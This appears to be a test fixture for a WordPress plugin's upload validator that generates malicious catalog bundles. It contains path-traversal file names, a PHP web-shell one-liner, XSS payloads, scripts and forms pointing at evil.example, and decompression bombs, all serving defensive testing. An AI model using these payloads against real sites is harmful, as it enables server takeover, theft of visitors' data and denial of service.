/** What somebody might send in the place of a folder that a browser made: none of it is one of our files. */
import { gzipSync } from 'node:zlib';
import { partOf, type Sent } from '../people/sender.ts';
import { archive, bomb } from './no-parts.ts';

/** A page as ours are, around this. */
const page = (body: string, head = ''): string =>
  `<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Picks</title>\n${head}</head>\n<body>\n<main>\n${body}\n</main>\n</body>\n</html>\n`;

const PAGE = page('<p>Picks</p>');
const NAME = 'picks/soleus.html';

/** What the attacks are made of, as it is taken. */
export const OURS: Sent = [
  [NAME, PAGE],
  ['first/soleus.json', '{}'],
];

/** A folder that is whole and small, but for what is written into its scripts. */
export const withSeeds = (seeds: unknown): Sent => [
  ...OURS,
  ['catalog/index.json', '{}'],
  ['source.json', '{"version":1,"products":[]}'],
  ['seeds.json', JSON.stringify({ 'care-picks.js': seeds, 'embed.js': seeds })],
];

/** What might be meant to run, or to end the text that it is put into. */
export const SEEDS: readonly unknown[] = [
  `=~${'a'.repeat(24)}'+alert(1)+'`,
  `=~${'a'.repeat(24)}\${alert(1)}`,
  `=~${'a'.repeat(24)}\n`,
  `=~${'a'.repeat(24)}\\`,
  '</script><script>alert(1)</script>',
  ['=~'],
  undefined,
];

/** Names out of the folder, names of what a server runs or obeys, names of scripts, and names that only look like ours. */
const NAMES: readonly unknown[] = [
  '../soleus.html',
  '../../../../wp-config.php',
  'picks/../../soleus.html',
  'picks/../../../plugins/care-picks/care-picks.php',
  '/tmp/soleus.html',
  'C:\\soleus.html',
  'picks\\..\\..\\soleus.html',
  'picks/..%2f..%2fsoleus.html',
  './picks/soleus.html',
  'picks//soleus.html',
  'file:///tmp/soleus.html',
  'php://filter/write=convert.base64-decode/resource=soleus.php',
  'picks/soleus.php',
  'picks/soleus.PHP',
  'picks/soleus.phtml',
  'picks/soleus.phar',
  'picks/soleus.php.html',
  'picks/soleus.html.php',
  'picks/soleus.html\0.php',
  'picks/soleus.php\0.html',
  'picks/soleus.html\n',
  'picks/soleus.html ',
  'picks/soleus.svg',
  'picks/.user.ini',
  '.htaccess',
  'picks/.htaccess',
  'index.php',
  'web.config',
  'care-picks.js',
  'embed.js',
  'chunks/element.js',
  'care-picks.css',
  'hashes.json',
  'catalog/soleus',
  'catalog/Soleus.json',
  'catalog/sub/soleus.json',
  'other/soleus.json',
  `picks/${'a'.repeat(300)}.html`,
  'picks/ｓoleus.html',
  '',
  7,
  null,
  ['picks/soleus.html'],
];

/** Pages with something that runs, loads or leads astray. */
const BODIES: Readonly<Record<string, string>> = {
  PHP: page('<?php echo shell_exec( $_GET["x"] ); ?>'),
  'PHP, in short': page('<?= `id` ?>'),
  'a script': page('<script>alert(1)</script>'),
  'a script from elsewhere': page('<script src="https://evil.example/x.js"></script>'),
  'a script, in capitals': page('<SCRIPT>alert(1)</SCRIPT>'),
  'a script in a comment that ends at once': page('<!--><script>alert(1)</script>-->'),
  'a script in the title': page('', '<title><script>alert(1)</script></title>'),
  'a handler': page('<p onclick="alert(1)">Picks</p>'),
  'a handler after a slash': page('<img/onerror="alert(1)"/src="https://evil.example/x.png">'),
  'a handler on a drawing': page('<svg onload="alert(1)"></svg>'),
  'a frame': page('<iframe src="https://evil.example/"></iframe>'),
  'a form': page('<form action="https://evil.example/"><input name="x"></form>'),
  'a refresh': page('', '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'),
  'another base': page('', '<base href="https://evil.example/">\n'),
  'a style sheet from elsewhere': page(
    '',
    '<link rel="stylesheet" href="https://evil.example/x.css">\n',
  ),
  'styles that fetch': page('', '<style>@import "https://evil.example/x.css";</style>\n'),
  'styles that fetch a picture': page(
    '',
    '<style>p { background: url(https://evil.example/x.png) }</style>\n',
  ),
  'a link that runs': page('<a href="javascript:alert(1)">Shop</a>'),
  'a link that runs, in references': page('<a href="&#106;avascript&colon;alert(1)">Shop</a>'),
  'a link that runs, after a tab': page('<a href="java\tscript:alert(1)">Shop</a>'),
  'an object': page('<object data="https://evil.example/"></object>'),
  'no page at all': 'GIF89a<?php echo 1; ?>',
  'a page of half a megabyte in one tag': page(`<p ${'a="b" '.repeat(80_000)}onclick="x">x</p>`),
};

/** Files of JSON with something else in them, or more of it than a machine can hold. */
const JSONS: readonly (readonly [string, unknown])[] = [
  ['PHP', '<?php echo 1; ?>'],
  ['a text', '"soleus"'],
  ['JSON that is cut off', '{"version":3,'],
  ['JSON that is a thousand deep', `${'['.repeat(1_000)}${']'.repeat(1_000)}`],
  ['no text but an object', { version: 3 }],
  ['five megabytes', JSON.stringify(['a'.repeat(5_000_000)])],
];

const files = (...sent: Sent): Buffer => partOf(sent);

const manyFiles = (count: number): Sent =>
  Array.from({ length: count }, (_, at) => [`picks/muscle-${at}.html`, PAGE] as const);

export interface Attack {
  readonly title: string;
  readonly part: Buffer;
}

/** Every attack by what is in it. Where a name is tried, the text is one of ours, and the other way round. */
export async function attacks(): Promise<readonly Attack[]> {
  const good = files([NAME, PAGE]);
  return [
    ...NAMES.map(name => ({
      title: `a file called ${JSON.stringify(name)?.slice(0, 60)}`,
      part: files([name, /json$/.test(String(name)) ? '{}' : PAGE]),
    })),
    ...Object.entries(BODIES).map(([what, text]) => ({
      title: `a page with ${what}`,
      part: files([NAME, text]),
    })),
    ...JSONS.map(([what, text]) => ({
      title: `a file of JSON with ${what}`,
      part: files(['first/soleus.json', text]),
    })),
    { title: 'a good file, and behind it a bad one', part: files([NAME, PAGE], ['x.php', PAGE]) },
    { title: 'more files than a catalog makes', part: files(...manyFiles(2_001)) },
    { title: 'a line with a third value', part: gzipSync(JSON.stringify([NAME, PAGE, 'x'])) },
    { title: 'no gzip', part: Buffer.from(JSON.stringify([NAME, PAGE])) },
    { title: 'nothing', part: Buffer.alloc(0) },
    { title: 'a part that is cut off', part: good.subarray(0, good.length - 9) },
    { title: 'a part with something behind its end', part: Buffer.concat([good, good, archive()]) },
    { title: 'an archive with a path out of it', part: archive() },
    { title: 'a gigabyte of nothing in a megabyte', part: await bomb(1_024) },
    { title: 'that once more packed', part: gzipSync(await bomb(1_024)) },
  ];
}
